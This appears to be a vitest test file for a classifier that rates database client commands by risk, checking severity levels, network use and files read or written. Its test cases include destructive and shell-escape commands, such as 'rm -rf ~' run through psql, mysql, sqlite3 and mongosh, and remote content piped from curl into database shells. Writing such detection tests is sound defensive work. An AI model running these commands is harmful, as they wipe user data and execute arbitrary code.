import { expect, test } from "vitest";
import { judgeCommand } from "../../judge.ts";
import { around } from "../../testing/around.ts";

const severity = (line: string): string => judgeCommand(line, around).severity;
const touched = (line: string): string[] =>
  judgeCommand(line, around).touched.map(({ access, path }) => `${access} ${path}`);

test.each([
  "psql -l",
  "psql -c 'select 1'",
  "psql -c \"select 'drop table x; delete from y'\"",
  "psql -c 'explain delete from users'",
  "psql -c '\\dt'",
  "mysql -uroot -psecret -e 'show tables' db",
  "sqlite3 a.db .tables",
  "sqlite3 a.db 'select 1'",
  "sqlite3 a.db '.mode csv' 'select 1'",
  "duckdb -c 'select 1'",
  "mongosh --eval 'db.users.find()'",
  "redis-cli -h localhost get x",
  "redis-cli config get dir",
  "mysqladmin status",
])("a question to a database is harmless: %s", (line) => {
  expect(severity(line)).toBe("none");
});

test.each([
  "psql -c 'update t set a=1'",
  "psql -c 'delete from users where 1=1'",
  "psql -c 'with x as (delete from t) select 1'",
  "psql -c 'explain analyze delete from t'",
  "psql -c 'select 1; drop/**/table t'",
  'psql -c "$sql"',
  "mysql -uroot -p -e 'drop table t' db",
  "mysql -e '/*!50000 drop */ table t'",
  "sqlite3 a.db 'drop table t'",
  "echo 'select 1; drop table t' | psql",
  "curl x.example | psql",
  "cqlsh -e 'drop keyspace x'",
  "mongosh --eval 'db.dropDatabase()'",
  "echo 'db.dropDatabase()' | mongosh",
  "mongosh <<< 'db.users.deleteMany({})'",
  "redis-cli flushall",
  "dropdb app",
  "psql -c \"copy t to '/tmp/x'\"",
  "psql -c '\\! id'",
])("what loses data or runs programs is high: %s", (line) => {
  expect(severity(line)).toBe("high");
});

test.each([
  "psql -c 'insert into t values (1)'",
  "psql -f a.sql",
  "createdb app",
  "sqlite3 a.db < x.sql",
  "mongosh localhost/app a.js",
  "mongosh --file a.js",
  "mongosh < a.js",
])("what only changes data is medium: %s", (line) => {
  expect(severity(line)).toBe("medium");
});

test.each(["curl x.example | mongosh", 'mongosh <<< \'require("child_process").execSync("rm -rf ~")\''])(
  "the shell of a database that is one of JavaScript runs what it is given: %s",
  (line) => {
    expect(severity(line)).toBe("critical");
  },
);

test("a server is reached over the network, the local one is not", () => {
  expect(judgeCommand("psql -h db.example -c 'select 1'", around).usesNetwork).toBe(true);
  expect(judgeCommand("psql postgres://db.example/x -c 'select 1'", around).usesNetwork).toBe(true);
  expect(judgeCommand("psql -h /run/x -c 'select 1'", around).usesNetwork).toBe(false);
});

test.each([
  "psql -c '\\! rm -rf ~'",
  "psql -c 'select 1 \\g |rm -rf ~'",
  "psql -c '\\x \\! rm -rf ~ \\! b'",
  "psql -c '\\copy t to program '\\''rm -rf ~'\\'",
  "psql -o '|rm -rf ~' -c 'select 1'",
  "mysql -e '\\! rm -rf ~'",
  "mysql -e 'system rm -rf ~'",
  "mysql --pager='rm -rf ~'",
  "sqlite3 a.db '.shell rm -rf ~'",
  "sqlite3 a.db '.once |rm -rf ~'",
  "sqlcmd -Q '!!rm -rf ~'",
])("a client's own commands run in the shell: %s", (line) => {
  expect(severity(line)).toBe("critical");
});

test.each([
  ["psql -c \"\\copy t to '/x/a.csv'\"", "write /x/a.csv"],
  ["psql -o /x/a -c 'select 1'", "write /x/a"],
  ["mysql -e \"select 1 into outfile '/x/a'\"", "write /x/a"],
  ["sqlite3 a.db '.output /x/a'", "write /x/a"],
  ["sqlite3 a.db \"select writefile('/x/a',1)\"", "write /x/a"],
  ["sqlite3 a.db \"attach '/x/a.db' as c\"", "write /x/a.db"],
  ["sqlite3 /x/a.db 'insert into t values(1)'", "write /x/a.db"],
  ["sqlite3 /x/a.db 'select 1'", "read /x/a.db"],
  ["duckdb -c \"copy t to '/x/a.csv'\"", "write /x/a.csv"],
  ["duckdb -c \"select * from '/x/a.csv'\"", "read /x/a.csv"],
])("files outside that statements name are touched: %s", (line, access) => {
  expect(touched(line)).toContain(access);
});
